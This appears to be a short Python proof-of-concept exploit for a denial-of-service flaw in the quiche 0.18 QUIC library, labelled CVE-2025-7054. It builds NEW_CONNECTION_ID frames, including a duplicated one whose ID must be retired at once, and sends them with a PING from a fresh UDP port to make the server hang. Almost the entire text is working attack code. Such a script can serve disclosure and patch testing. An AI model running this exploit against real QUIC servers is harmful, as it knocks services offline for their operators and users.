"""One packet from another UDP port after which quiche 0.18 hangs: it retires the ID that it has just taken (CVE-2025-7054)."""

import os

import frames
from story import open_link, tell

link = open_link()
lasting = frames.new_connection_id(2, 2, os.urandom(6), os.urandom(16))
# The ID's number is below what was retired, so it is to be retired at once. A victim could take the repeated frame for a good one.
doomed = frames.new_connection_id(1, 0, os.urandom(6), os.urandom(16))
link.send_frames(lasting + doomed + doomed + frames.PING, via=link.new_socket())
link.keep(1.0)
tell(link)
